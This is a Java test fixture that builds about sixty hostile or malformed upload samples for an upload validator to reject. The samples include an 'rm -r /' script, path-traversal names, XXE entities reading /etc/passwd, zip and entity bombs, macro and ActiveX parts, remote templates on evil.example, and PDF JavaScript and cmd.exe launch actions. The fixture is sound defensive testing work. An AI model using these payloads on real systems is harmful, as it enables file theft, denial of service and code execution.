package vn.kehoach.document;

import static vn.kehoach.document.Sent.bad;
import static vn.kehoach.document.Uploads.relationship;
import static vn.kehoach.document.Uploads.text;
import static vn.kehoach.document.Uploads.zip;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;
import java.util.zip.DeflaterOutputStream;

/** Sixty files that must not come in. */
final class BadUploads {

    private BadUploads() {}

    static List<Sent> all() throws IOException {
        List<Sent> all = new ArrayList<>();
        types(all);
        sizes(all);
        packages(all);
        active(all);
        pdfs(all);
        return all;
    }

    private static void types(List<Sent> all) {
        all.add(bad("empty.pdf", new byte[0], "empty"));
        all.add(bad("a.exe", text("MZ"), "type"));
        all.add(bad("report.pdf.exe", Uploads.pdf(), "type"));
        all.add(bad("bao-cao\u202Efdp.exe", Uploads.pdf(), "type"));
        all.add(bad("noextension", Uploads.pdf(), "type"));
        all.add(bad("page.html", text("<html>"), "type"));
        all.add(bad("drawing.svg", text("<svg onload='x'/>"), "type"));
        all.add(bad("old.doc", Uploads.lockedDocx(), "type"));
        all.add(bad("macro.docm", Uploads.docx("word/vbaProject.bin"), "type"));
        all.add(bad("page.pdf", text("<html><script>"), "type"));
        all.add(bad("page-later.pdf", text(" ".repeat(2_000) + "%PDF-1.4"), "type"));
        all.add(bad("program.pdf", "MZ\u0090\u0000".getBytes(StandardCharsets.ISO_8859_1), "type"));
        all.add(bad("script.pdf", text("#!/bin/sh\nrm -r /\n"), "type"));
        all.add(bad("picture.png", Uploads.jpeg(), "type"));
        all.add(bad("picture.jpg", Uploads.png(), "type"));
        all.add(bad("drawing.png", text("<svg xmlns='http://www.w3.org/2000/svg' onload='x'/>"), "type"));
        all.add(bad("text.docx", Uploads.pdf(), "type"));
        all.add(bad("sheet.docx", Uploads.xlsx(), "type"));
        all.add(bad("text.xlsx", Uploads.docx(), "type"));
        all.add(bad("any.docx", zip(Map.of("a.txt", text("a"))), "type"));
        all.add(bad("../../etc/passwd.pdf", Uploads.pdf(), "name"));
        all.add(bad("..\\..\\Windows\\a.pdf", Uploads.pdf(), "name"));
        all.add(bad("a.pdf\u0000.exe", Uploads.pdf(), "name"));
        all.add(bad("half.png", Arrays.copyOf(Uploads.png(), 20), "damaged"));
        all.add(bad("half.jpg", Arrays.copyOf(Uploads.jpeg(), 22), "damaged"));
        byte[] vast = Uploads.png();
        ByteBuffer.wrap(vast).putInt(16, 60_000).putInt(20, 60_000);
        all.add(bad("vast.png", vast, "picture"));
    }

    private static void sizes(List<Sent> all) {
        all.add(bad("large.pdf", Uploads.pdf(30_000_001), "size"));
        all.add(new Sent("gigabyte.pdf", () -> new Zeros(1_000_000_000L), "size"));
        all.add(new Sent("gigabyte.docx", () -> new Zeros(1_000_000_000L), "size"));
        all.add(bad("bomb.docx", Uploads.bomb("word/media/image1.bmp", 250), "bomb"));
        all.add(bad("bomb-in-xml.docx", Uploads.bomb("word/styles.xml", 60), "bomb"));
        byte[] liar = Uploads.bomb("word/media/image1.bmp", 60);
        // The last entry of the directory says that it unpacks to little.
        int entry = last(liar, 0x02014b50);
        ByteBuffer.wrap(liar).order(ByteOrder.LITTLE_ENDIAN).putInt(entry + 24, 1_000);
        all.add(bad("bomb-that-lies.docx", liar, "damaged"));
        all.add(bad(
                "crowd.docx",
                Uploads.docx(IntStream.range(0, 6_000)
                        .mapToObj(i -> "word/" + i + ".xml")
                        .toArray(String[]::new)),
                "damaged"));
    }

    private static void packages(List<Sent> all) {
        byte[] docx = Uploads.docx();
        all.add(bad("half.docx", Arrays.copyOf(docx, docx.length / 2), "damaged"));
        all.add(bad("locked.docx", Uploads.lockedDocx(), "password"));
        byte[] flagged = docx.clone();
        flagged[last(flagged, 0x02014b50) + 8] |= 1;
        all.add(bad("locked-zip.docx", flagged, "password"));
        byte[] method = docx.clone();
        method[last(method, 0x02014b50) + 10] = 99;
        all.add(bad("strange-method.docx", method, "damaged"));
        byte[] renamed = docx.clone();
        renamed[last(renamed, 0x04034b50) + 30] = 'W';
        all.add(bad("two-names.docx", renamed, "damaged"));
        byte[] doubled = docx.clone();
        int entry = last(doubled, 0x02014b50);
        ByteBuffer.wrap(doubled).order(ByteOrder.LITTLE_ENDIAN).putInt(entry + 42, 0);
        all.add(bad("one-over-another.docx", doubled, "damaged"));
        all.add(bad("twice.docx", Uploads.docx("WORD/Document.xml"), "damaged"));
        all.add(bad("upward.docx", Uploads.docx("../../evil.xml"), "path"));
        all.add(bad("upward-inside.docx", Uploads.docx("word/../../evil.xml"), "path"));
        all.add(bad("absolute.docx", Uploads.docx("/etc/cron.d/evil"), "path"));
        all.add(bad("drive.docx", Uploads.docx("C:\\evil.xml"), "path"));
        String entity = "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>";
        all.add(bad("xxe.docx", with("word/document.xml", text(entity)), "xxe"));
        all.add(bad("xxe-types.docx", with("[Content_Types].xml", text(entity)), "xxe"));
        all.add(bad("xxe-rels.docx", with("word/_rels/document.xml.rels", text(entity)), "xxe"));
        all.add(bad(
                "xxe-utf16.docx",
                with(
                        "docProps/app.xml",
                        ("\uFEFF<?xml version='1.0' encoding='UTF-16'?>" + entity).getBytes(StandardCharsets.UTF_16BE)),
                "xxe"));
        all.add(bad(
                "laughs.docx",
                with("word/styles.xml", text("<!DOCTYPE a [<!ENTITY b 'ha'><!ENTITY c '&b;&b;&b;&b;'>]><a>&c;</a>")),
                "xxe"));
        all.add(bad(
                "comment.docx", with("word/styles.xml", text("<!--" + " ".repeat(3_000_000) + "--><a/>")), "damaged"));
    }

    private static void active(List<Sent> all) {
        all.add(bad("macro.docx", Uploads.docx("word/vbaProject.bin"), "macro"));
        all.add(bad("macro.xlsx", Uploads.xlsx("XL/VBAPROJECT.BIN"), "macro"));
        all.add(bad("old-macro.xlsx", Uploads.xlsx("xl/macrosheets/sheet1.xml"), "macro"));
        all.add(bad(
                "macro-renamed.docx",
                with("word/_rels/document.xml.rels", relationship("vbaProject", "a.bin", "Internal")),
                "macro"));
        all.add(bad(
                "macro-type.docx",
                zip(Uploads.parts("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml")),
                "macro"));
        all.add(bad("control.docx", Uploads.docx("word/activeX/activeX1.xml"), "active"));
        all.add(bad("object.docx", Uploads.docx("word/embeddings/oleObject1.bin"), "active"));
        all.add(bad("program.docx", Uploads.docx("word/embeddings/setup.exe"), "active"));
        all.add(bad(
                "html-inside.docx",
                with("word/_rels/document.xml.rels", relationship("aFChunk", "a.txt", "Internal")),
                "active"));
        all.add(bad(
                "template.docx",
                with(
                        "word/_rels/settings.xml.rels",
                        relationship("attachedTemplate", "https://evil.example/a.dotm", "External")),
                "remote"));
        all.add(bad(
                "template-share.docx",
                with(
                        "word/_rels/settings.xml.rels",
                        relationship("attachedTemplate", "\\\\evil.example\\a.dotm", "External")),
                "remote"));
        all.add(bad(
                "script-link.docx",
                with("word/_rels/document.xml.rels", relationship("hyperlink", "javascript:alert(1)", "External")),
                "remote"));
    }

    private static void pdfs(List<Sent> all) throws IOException {
        all.add(bad("locked.pdf", Uploads.pdf("/Encrypt 5 0 R"), "password"));
        all.add(bad("locked-inside.pdf", Uploads.pdf("/Encrypt\n<< /Filter /Standard >>"), "password"));
        all.add(bad("script-in.pdf", Uploads.pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "active"));
        all.add(bad(
                "script-written-otherwise.pdf",
                Uploads.pdf("/OpenAction << /S /J#61vaScript /J#53 7 0 R >>"),
                "active"));
        all.add(bad("launch.pdf", Uploads.pdf("/OpenAction <</S/Launch/F(cmd.exe)>>"), "active"));
        all.add(bad("script-packed.pdf", packed(text("1 0 << /S /JavaScript /JS (x) >>")), "active"));
        all.add(bad("bomb-packed.pdf", packed(new byte[101_000_000]), "bomb"));
        all.add(bad("half.pdf", Arrays.copyOf(Uploads.pdf(), 100), "damaged"));
    }

    private static byte[] packed(byte[] objects) throws IOException {
        var bytes = new ByteArrayOutputStream();
        bytes.write(text("%PDF-1.5\n1 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\r\n"));
        try (var packed = new DeflaterOutputStream(bytes)) {
            packed.write(objects);
        }
        bytes.write(text("\nendstream endobj\nstartxref\n0\n%%EOF\n"));
        return bytes.toByteArray();
    }

    private static byte[] with(String name, byte[] content) {
        Map<String, byte[]> parts = Uploads.word();
        parts.put(name, content);
        return zip(parts);
    }

    private static int last(byte[] zip, int signature) {
        ByteBuffer bytes = ByteBuffer.wrap(zip).order(ByteOrder.LITTLE_ENDIAN);
        int at = zip.length - 4;
        while (bytes.getInt(at) != signature) {
            at--;
        }
        return at;
    }

    /** Much of nothing, made while it is read. */
    private static final class Zeros extends InputStream {
        private long left;

        Zeros(long size) {
            left = size;
        }

        @Override
        public int read() {
            return left-- > 0 ? 0 : -1;
        }

        @Override
        public int read(byte[] bytes, int from, int length) {
            int count = (int) Math.min(left, length);
            left -= count;
            return count == 0 ? -1 : count;
        }
    }
}
